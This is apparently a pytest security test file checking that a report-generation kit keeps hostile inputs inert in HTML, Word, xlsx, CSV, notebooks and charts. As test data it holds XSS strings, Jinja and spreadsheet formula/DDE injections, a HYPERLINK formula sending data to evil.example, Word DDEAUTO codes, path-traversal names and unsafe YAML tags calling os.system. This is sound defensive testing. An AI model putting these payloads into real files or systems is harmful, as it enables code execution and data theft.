"""Safe outputs: hostile text in the inputs stays inert text in every output.

One real build of the sample with hostile text put where users type: indicator
names and units, budget and asset names, ``lakip.yml`` (agency, signatory,
vision, a table source) and a narrative file: HTML and script, Jinja syntax,
spreadsheet formulas and DDE payloads, and path-like names. Its outputs must
hold all of it as text (HTML escaped, CSV and xlsx cells neutralised), it
must write nowhere but its output folder, use no network, and put no name or
NIP of the roster anywhere. Then the guards that need no build: ``--year``
and a symlinked output folder cannot steer a write, ``lakip.yml`` is read
with YAML's safe loader, chart text is never parsed as mathtext.
"""

from __future__ import annotations

import csv
import html
import json
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest
import yaml
from bs4 import BeautifulSoup

from corpus import SAMPLE, Build, run_lakip, sample_copy, state, watched_build
from lakip_lib import __version__
from lakip_lib.cli import main
from lakip_lib.manifest import write_manifest
from lakip_lib.presentation import charts

pytestmark = pytest.mark.slow

SCRIPT = '<script>alert("lakip")</script>'
IMG = '<img src=x onerror=alert("lakip")>'
JINJA = "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %}"
#: text a spreadsheet would run: =, +, -, @ (and a tab or CR before them)
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPES = "../../keluar-lakip"  # a name from lakip.yml shaped like a path out of the output folder

#: where the hostile text goes: (workbook, sheet, cell) -> text, all cells of the 2024 sample
CELLS = {
    ("kinerja.xlsx", "PK 2024", "D5"): f"{SCRIPT} Indeks Profesionalitas {JINJA}",
    ("kinerja.xlsx", "PK 2024", "F5"): IMG,
    ("kinerja.xlsx", "PK 2024", "D6"): FORMULAS["hyperlink"],
    ("kinerja.xlsx", "PK 2024", "D7"): FORMULAS["dde"],
    ("kinerja.xlsx", "PK 2024", "D8"): FORMULAS["at"],
    ("kinerja.xlsx", "PK 2024", "D9"): FORMULAS["minus"],
    ("kinerja.xlsx", "IKK", "B4"): "\t=1+1",
    ("kinerja.xlsx", "IKK", "B5"): "\r=2+2",
    ("anggaran.xlsx", "Realisasi", "B7"): f"=cmd|' /C calc'!A0 {SCRIPT}",
    ("anggaran.xlsx", "Realisasi", "B8"): IMG,
    ("sarana.xlsx", "Sarana", "B5"): f"{SCRIPT} Kendaraan",
    ("sarana.xlsx", "Sarana", "G5"): "@SUM(A1)",
    # Word field codes typed as text: they must stay text in the Word document, never become fields
    ("sarana.xlsx", "Sarana", "B6"): '{ HYPERLINK "http://evil.example" } { INCLUDEPICTURE "http://evil.example/x.png" }',
    ("sarana.xlsx", "Sarana", "G6"): '{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" }',
}
AGENCY = f'=HYPERLINK("http://evil.example","BKD") {SCRIPT} {JINJA}'
SIGNATORY = IMG
VISION = f"</blockquote>{SCRIPT} {JINJA}"
SOURCE = "<a href=\"javascript:alert('sumber')\">sumber</a>"
NARASI = f"Catatan: {SCRIPT} {IMG} {JINJA}\n\n[tautan](javascript:alert(1)) ![pelacak](http://evil.example/pixel.png)\n"


@dataclass
class Hostile:
    build: Build
    root: Path
    before: dict[str, tuple[str, int, int]]  # everything under root before the build
    victim: Path  # a file outside, linked from the previous outputs


def make_hostile(data: Path, outside: Path) -> None:
    """Put the hostile text into the sample copy at ``data``; ``outside`` is a path out of the output folder."""
    for name in {name for name, _, _ in CELLS}:
        book = openpyxl.load_workbook(data / "2024" / name)
        for (workbook, sheet, cell), text in CELLS.items():
            if workbook == name:
                book[sheet][cell].value = text
                book[sheet][cell].data_type = "s"  # text, as typed after an apostrophe: not a formula of the input
        book.save(data / "2024" / name)
    project = yaml.safe_load((data / "lakip.yml").read_text(encoding="utf-8"))
    project["agency"].update(name=AGENCY, short_name=ESCAPES, region=str(outside))
    project["signatory"]["name"] = SIGNATORY
    project["renstra"]["vision"] = VISION
    project["report"]["sources"].update({"staff": SOURCE, ESCAPES: "x"})
    (data / "lakip.yml").write_text(yaml.safe_dump(project, allow_unicode=True), encoding="utf-8")
    with (data / "narasi" / "01-latar-belakang.md").open("a", encoding="utf-8") as narasi:
        narasi.write("\n" + NARASI)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Hostile:
    """The sample with hostile text, built by ``lakip build --year 2024``; its previous outputs hold a
    link from tables/budget.csv to a file outside."""
    root = tmp_path_factory.mktemp("hostile")
    data = sample_copy(root / "raw")
    make_hostile(data, root / "keluar-absolut")
    victim = root / "victim.csv"
    victim.write_text("jangan ditimpa\n", encoding="utf-8")
    (root / "outputs" / "2024" / "tables").mkdir(parents=True)
    (root / "outputs" / "2024" / "tables" / "budget.csv").symlink_to(victim)
    # a build's record, as if the link had been slipped into the kit's own folder: the kit may replace it
    write_manifest(root / "outputs" / "2024", {"kit_version": __version__})
    before = state(root)
    build = watched_build(root, data, root / "outputs", ["--year", "2024", "--docx"])
    assert build.run.code == 0, build.run.stderr
    return Hostile(build, root, before, victim)


def year(hostile: Hostile) -> Path:
    return hostile.build.out / "2024"


def words(text: str) -> str:
    return " ".join(text.split())


# ---------------------------------------------------------------- HTML


def test_the_report_shows_hostile_text_as_text(hostile):
    source = (year(hostile) / "lakip-2024.html").read_text(encoding="utf-8")
    page = BeautifulSoup(source, "html.parser")
    assert page.find_all("script") == []
    assert [(tag.name, name) for tag in page.find_all(True) for name in tag.attrs if name.lower().startswith("on")] == []
    assert [a["href"] for a in page.find_all("a", href=True) if a["href"].strip().lower().startswith(("javascript:", "vbscript:"))] == []
    text = words(page.get_text(" "))
    shown = [*CELLS.values(), AGENCY, SIGNATORY, VISION, SOURCE, NARASI.split("\n")[0]]
    assert [value for value in shown if words(value) not in text] == []  # as typed: not run, not quoted
    assert "looplooploop" not in text  # the Jinja syntax was not run
    assert "&lt;script&gt;alert(" in source


def test_the_report_fetches_nothing_when_opened(hostile):
    page = BeautifulSoup((year(hostile) / "lakip-2024.html").read_text(encoding="utf-8"), "html.parser")
    fetched = [(tag.name, name, tag[name]) for tag in page.find_all(True)
               for name in ("src", "srcset", "data", "poster", "background", "action", "formaction")
               if tag.has_attr(name) and not tag[name].startswith("data:")]
    fetched += [("link", "href", tag["href"]) for tag in page.find_all("link", href=True)]
    styles = " ".join([tag.get_text() for tag in page.find_all("style")] + [tag["style"] for tag in page.find_all(style=True)])
    # url(#id), an element of the page itself (an inline chart's hatch pattern), fetches nothing
    fetched += [("style", "url", url) for url in re.findall(r"""url\(\s*['"]?([^'")]*)""", styles) if not url.startswith(("data:", "#"))]
    fetched += [("style", "import", rule) for rule in re.findall(r"@import[^;]*", styles)]
    assert fetched == []


def test_the_executed_notebooks_show_hostile_text_as_text(hostile):
    shown = 0
    for notebook in sorted((year(hostile) / "notebooks").glob("*.ipynb")):
        for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]:
            for output in cell.get("outputs", []):
                markup = output.get("data", {}).get("text/html")
                if markup is None:
                    continue
                part = BeautifulSoup("".join(markup), "html.parser")
                assert part.find_all("script") == [], notebook.name
                assert [n for tag in part.find_all(True) for n in tag.attrs if n.lower().startswith("on")] == [], notebook.name
                shown += SCRIPT in part.get_text()
    assert shown >= 2  # the indicators table (02) and the report (04) hold the hostile names


def test_the_executed_notebooks_converted_to_html_run_nothing_from_the_inputs(hostile):
    """Before: the agency's name from lakip.yml, in the figures' titles, was shown as Markdown, which passes HTML on: a
    ``<script>`` in it ran when a user converted ``01-staffing.ipynb`` to HTML."""
    from nbconvert import HTMLExporter

    for notebook in sorted((year(hostile) / "notebooks").glob("*.ipynb")):
        cells = json.loads(notebook.read_text(encoding="utf-8"))["cells"]
        assert [o for c in cells for o in c.get("outputs", []) if "text/markdown" in o.get("data", {})] == [], notebook.name
        page = BeautifulSoup(HTMLExporter().from_filename(str(notebook))[0], "html.parser")
        assert [tag for tag in page.find_all("script") if "lakip" in tag.get_text()] == [], notebook.name
        assert [(tag.name, name) for tag in page.find_all(True) for name in tag.attrs if name.lower().startswith("on")] == []
        if notebook.name == "01-staffing.ipynb":
            assert "&lt;script&gt;alert(" in str(page)  # the agency's name is there, as text


def test_the_figures_show_hostile_names_as_text(hostile):
    svg = ElementTree.parse(year(hostile) / "figures" / "capaian.svg").getroot()
    assert [e.tag for e in svg.iter() if e.tag.rsplit("}", 1)[-1].lower() in ("script", "foreignobject")] == []
    assert [n for e in svg.iter() for n in e.attrib if n.lower().startswith("on")] == []
    text = words(" ".join(svg.itertext()))
    assert words(CELLS[("kinerja.xlsx", "PK 2024", "D5")]) in text  # an indicator name, over several lines
    assert f"realisasi 64,23 {IMG}" in text  # its unit, in the line under the indicator's name


def test_chart_text_from_the_data_is_never_mathtext(tmp_path):
    name, unit = r"Rasio $x^2$ dan $\undefinedmacro$", r"$\frac{1}{2}$"
    achievement = pd.DataFrame({"indicator": [name], "target": [2.0], "realisation": [1.0], "unit": [unit], "achievement_pct": [50.0]})
    svg = next(p for p in charts.save_figure(charts.chart_capaian(achievement), tmp_path) if p.suffix == ".svg")
    text = words(" ".join(ElementTree.parse(svg).getroot().itertext()))
    assert name in text and unit in text


# ---------------------------------------------------------------- Word


def test_the_word_document_holds_hostile_text_as_plain_text(hostile):
    with zipfile.ZipFile(year(hostile) / "lakip-2024.docx") as archive:
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    body = ElementTree.fromstring(parts["word/document.xml"])
    w = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    text = words(" ".join(t.text or "" for t in body.iter(f"{w}t")))
    shown = [*CELLS.values(), AGENCY, SIGNATORY, VISION, SOURCE, NARASI.split("\n")[0]]
    assert [value for value in shown if words(value) not in text] == []  # as typed, every one
    assert "looplooploop" not in text
    # the only fields are the kit's own: contents, lists, captions, page numbers
    instructions = [words(i.text or "") for i in body.iter(f"{w}instrText")]
    assert instructions and [i for i in instructions if not i.startswith(("TOC ", "SEQ Tabel ", "SEQ Gambar "))] == []
    assert [e.tag for e in body.iter() if e.tag in (f"{w}fldSimple", f"{w}hyperlink")] == []
    assert [name for name, xml in parts.items() if 'TargetMode="External"' in xml] == []  # no link leaves the file


# ---------------------------------------------------------------- xlsx and CSV


def test_xlsx_cells_from_the_data_are_text_never_formulas(hostile):
    path = year(hostile) / "tabel-lakip-2024.xlsx"
    with zipfile.ZipFile(path) as archive:
        assert [m for m in archive.namelist() if m.startswith("xl/worksheets/") and b"<f>" in archive.read(m)] == []
    book = openpyxl.load_workbook(path)  # formulas are kept as formulas, not evaluated (data_only=False)
    cells = [(sheet.title, cell) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [(title, c.coordinate) for title, c in cells if c.data_type == "f"] == []
    assert [(title, c.coordinate, c.value) for title, c in cells
            if isinstance(c.value, str) and c.value.startswith(FORMULA_START) and c.value != "-"] == []
    texts = {c.value for _, c in cells if isinstance(c.value, str)}
    assert ["'" + f for f in [*FORMULAS.values(), AGENCY] if "'" + f not in texts] == []
    assert "'=1+1" in texts and "'=2+2" in texts  # the tab and CR were dropped, the formula still quoted


def test_csv_fields_from_the_data_cannot_run_as_formulas(hostile):
    fields = {}
    for path in sorted((year(hostile) / "tables").glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            fields[path.name] = [field for row in csv.reader(handle) for field in row]
    risky = [(name, f) for name, values in fields.items() for f in values
             if f.startswith(FORMULA_START) and f != "-" and not _is_number(f)]
    assert risky == []
    assert ["'" + f for f in FORMULAS.values() if "'" + f not in fields["indicators.csv"]] == []
    assert f"'=cmd|' /C calc'!A0 {SCRIPT}" in fields["budget.csv"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- where it writes, what it reaches


def test_the_build_writes_only_in_its_output_folder(hostile):
    """Outputs, and the cleaned-data cache beside the raw folder (raw → processed, as the README says)."""
    after = state(hostile.root)
    ours = ("outputs/", "processed/", "audit")  # the audit hook and its log
    outside = {path: entry for path, entry in after.items()
               if not path.startswith(ours) and path not in ("outputs", "processed")}
    assert outside == {path: entry for path, entry in hostile.before.items() if not path.startswith("outputs/") and path != "outputs"}
    assert any(path.startswith("processed/2024/") for path in after)
    assert hostile.victim.read_text(encoding="utf-8") == "jangan ditimpa\n"
    assert not (year(hostile) / "tables" / "budget.csv").is_symlink()
    places = [hostile.root, hostile.build.out, year(hostile), year(hostile) / "tables", year(hostile) / "figures"]
    assert [p for p in places if (p / ESCAPES).resolve().exists()] == []
    assert not (hostile.root / "keluar-absolut").exists()


def test_the_build_uses_no_network_and_only_reads_raw_files(hostile):
    events = hostile.build.events
    assert [event for event in events if event[1] != "read"] == []
    # only the command reads the raw folder, to copy and hash it: the kernels read that copy (issue 12, probe 3)
    assert len({pid for pid, _, path in events if path.endswith("lakip.yml")}) == 1
    assert hostile.build.raw_after == hostile.build.raw_before


def test_a_year_that_is_not_a_number_is_refused(tmp_path, capsys):
    with pytest.raises(SystemExit) as stopped:
        main(["build", "--year", "../2024", "--data", str(SAMPLE), "--out", str(tmp_path / "out")])
    assert stopped.value.code == 2
    assert "argumen --year: '../2024' bukan bilangan bulat" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_a_negative_year_cannot_name_an_output_folder(tmp_path, capsys):
    assert main(["build", "--year", "-1", "--data", str(SAMPLE), "--out", str(tmp_path / "out")]) == 1
    assert capsys.readouterr().err == "-1: FAILED: '-1' bukan nama sederhana untuk tahun: gunakan huruf, angka, '.', '_' atau '-'\n"
    assert list(tmp_path.iterdir()) == []


def test_a_year_folder_linked_out_of_the_output_folder_is_refused(tmp_path, capsys):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "penting.txt").write_text("data lain\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "2024").symlink_to(elsewhere)
    before = state(tmp_path)
    assert main(["build", "--year", "2024", "--data", str(SAMPLE), "--out", str(out)]) == 1
    assert capsys.readouterr().err == f"2024: FAILED: '2024' akan ditulis di luar {out.resolve()}\n"
    assert state(tmp_path) == before


@pytest.mark.parametrize("tag", ['!!python/object/apply:os.system ["touch {marker}"]',
                                 '!!python/object/new:subprocess.Popen [["touch", "{marker}"]]',
                                 "!!python/name:os.system"])
def test_lakip_yml_is_read_with_the_safe_loader_only(tmp_path, capsys, tag):
    marker = tmp_path / "ran"
    (tmp_path / "2024").mkdir()
    (tmp_path / "lakip.yml").write_text(f"agency:\n  name: {tag.format(marker=marker)}\n", encoding="utf-8")
    assert main(["check", "--year", "2024", "--data", str(tmp_path)]) == 2
    assert capsys.readouterr().err.startswith(
        "lakip: lakip.yml: bukan YAML yang sah (could not determine a constructor for the tag 'tag:yaml.org,2002:python/")
    assert not marker.exists()


# ---------------------------------------------------------------- personal data

#: a NIP: 18 digits, or as printed (8 6 1 3); not part of a longer run of letters and digits, nor decimals (0.048543689320388345)
NIP_LIKE = re.compile(r"(?<![0-9A-Za-z.,])(?:\d{18}|\d{8} \d{6} \d \d{3})(?![0-9A-Za-z])")
SHA256 = re.compile(r"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")  # the inputs' hashes the appendix and manifest list


def roster() -> tuple[list[str], list[str]]:
    """Names and NIPs of the sample roster, read with openpyxl (not the kit's loader)."""
    rows = list(openpyxl.load_workbook(SAMPLE / "2024" / "pegawai.xlsx", read_only=True)["DATA PNS"].iter_rows(values_only=True))
    header = next(i for i, row in enumerate(rows) if "NIP BARU" in row)
    name, nip = rows[header].index("NAMA"), rows[header].index("NIP BARU")
    people = [row for row in rows[header + 1:] if row[nip]]
    return [words(row[name]) for row in people], [re.sub(r"\D", "", str(row[nip])) for row in people]


def readable_text(path: Path) -> str:
    """Every text a person or program could read in an output file, entities decoded."""
    data = path.read_bytes()
    if path.suffix in (".html", ".svg", ".csv"):
        return html.unescape(data.decode("utf-8"))
    if path.suffix in (".ipynb", ".json"):
        return html.unescape("\n".join(_strings(json.loads(data))))
    if path.suffix in (".xlsx", ".docx"):
        with zipfile.ZipFile(path) as archive:
            return html.unescape("\n".join(archive.read(m).decode("utf-8", "replace") for m in archive.namelist()))
    if path.suffix == ".png":
        return _png_text(data)
    if path.suffix == ".pickle":  # the stored report model: a pickle keeps every text as its UTF-8 bytes
        return html.unescape(data.decode("utf-8", "replace"))
    raise AssertionError(f"{path.name}: an output kind the scan does not read")


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in [k, *_strings(v)]]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [str(value)]


def _png_text(data: bytes) -> str:
    """The text chunks of a PNG (tEXt, zTXt, iTXt); its pixels are drawn from what the SVG twin says in text."""
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    texts, position = [], 8
    while position < len(data):
        length, kind = struct.unpack(">I4s", data[position:position + 8])
        body = data[position + 8:position + 8 + length]
        position += 12 + length
        if kind == b"tEXt":
            texts.append(body.replace(b"\0", b" ").decode("latin-1"))
        elif kind == b"zTXt":
            key, _, rest = body.partition(b"\0")
            texts.append(key.decode("latin-1") + " " + zlib.decompress(rest[1:]).decode("latin-1"))
        elif kind == b"iTXt":
            key, _, rest = body.partition(b"\0")
            compressed, rest = rest[0], rest[2:]
            text = rest.split(b"\0", 2)[2]
            texts.append(key.decode("latin-1") + " " + (zlib.decompress(text) if compressed else text).decode("utf-8"))
    return "\n".join(texts)


def test_no_name_or_nip_of_the_roster_reaches_any_output(hostile):
    names, nips = roster()
    assert len(names) == len(nips) == 103
    files = sorted(p for p in year(hostile).rglob("*") if p.is_file())
    assert {p.suffix for p in files} == {".html", ".ipynb", ".png", ".svg", ".csv", ".xlsx", ".docx", ".json", ".pickle"}
    found = []
    for path in files:
        text = readable_text(path)
        folded = words(text).casefold()
        found += [(path.name, name) for name in names if name.casefold() in folded]
        digits = SHA256.sub(" ", text)
        found += [(path.name, nip) for nip in nips if nip in digits.replace(" ", "")]
        found += [(path.name, match) for match in NIP_LIKE.findall(digits)]
    assert found == []


# ---------------------------------------------------------------- bidi controls and cells cut at Excel's limit

RLO = "\u202e"  # right-to-left override: "laporan\u202egnp.exe" shows as "laporanexe.png"
CONTROL = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def controlled(tmp_path_factory) -> Path:
    """The sample built with bidi controls in cells of three workbooks (the roster read as text, the others cell by cell),
    in lakip.yml and in a narrative file, and an indicator name of a million characters; its year folder."""
    root = tmp_path_factory.mktemp("controls")
    data = sample_copy(root / "raw")
    edits = {("kinerja.xlsx", "PK 2024", "D6"): f"Persentase ASN{RLO}gnp.exe", ("sarana.xlsx", "Sarana", "B8"): f"Laptop{RLO}gnp.exe",
             ("pegawai.xlsx", None, "H7"): f"Analis\u2067Ahli", ("kinerja.xlsx", "IKK", "B6"): "Persentase " + "tindak lanjut " * 80_000}
    for name in {name for name, _, _ in edits}:
        book = openpyxl.load_workbook(data / "2024" / name)
        for (workbook, sheet, cell), text in edits.items():
            if workbook == name:
                (book[sheet] if sheet else book.active)[cell].value = text
        book.save(data / "2024" / name)
    project = yaml.safe_load((data / "lakip.yml").read_text(encoding="utf-8"))
    project["agency"]["name"] += f" {RLO}gnp.exe"
    (data / "lakip.yml").write_text(yaml.safe_dump(project, allow_unicode=True), encoding="utf-8")
    with (data / "narasi" / "01-latar-belakang.md").open("a", encoding="utf-8") as narasi:
        narasi.write(f"\nLampiran: laporan{RLO}fdp.exe\n")
    run = run_lakip(["build", "--year", "2024", "--data", str(data), "--out", str(root / "outputs")], cwd=root, timeout=300)
    assert run.code == 0, run.stderr
    return root / "outputs" / "2024"


def test_no_bidi_control_reaches_any_output(controlled):
    """Issue 12: U+202E passed into the HTML, CSV and SVG ("…\u202egnp.exe" shown as "…exe.png")."""
    texts = [p for p in sorted(controlled.rglob("*")) if p.suffix in (".html", ".csv", ".svg", ".ipynb", ".json")]
    assert {p.suffix for p in texts} == {".html", ".csv", ".svg", ".ipynb", ".json"}
    assert [p.name for p in texts if CONTROL.search(p.read_text(encoding="utf-8"))] == []
    with zipfile.ZipFile(controlled / "tabel-lakip-2024.xlsx") as book:
        assert [m for m in book.namelist() if CONTROL.search(book.read(m).decode("utf-8", "replace"))] == []
    page = (controlled / "lakip-2024.html").read_text(encoding="utf-8")
    for shown in ("Persentase ASN[U+202E]gnp.exe", "Laptop[U+202E]gnp.exe", "[U+202E]gnp.exe", "laporan[U+202E]fdp.exe"):
        assert shown in page, shown


def test_bidi_controls_and_cut_cells_are_findings_naming_the_cells(controlled):
    """Issue 12: a cell of a megabyte was cut to 32.767 characters without a word."""
    with (controlled / "tables" / "checks.csv").open(encoding="utf-8") as table:
        checks = [row for row in csv.DictReader(table) if row["severity"] == "warning"]
    said = [(row["location"], row["message"].rsplit(": ", 1)[-1]) for row in checks if "bidi" in row["message"] or "32.767" in row["message"]]
    assert sorted(said) == [("kinerja.xlsx:IKK!A3", "B6"), ("kinerja.xlsx:PK 2024!A4", "D6"), ("pegawai.xlsx:DATA PNS!A5", "H7"),
                            ("sarana.xlsx:Sarana!A3", "B8")]
    page = (controlled / "lakip-2024.html").read_text(encoding="utf-8")
    assert "Persentase " + "tindak lanjut " * 2000 in page  # the indicator, as far as it was read
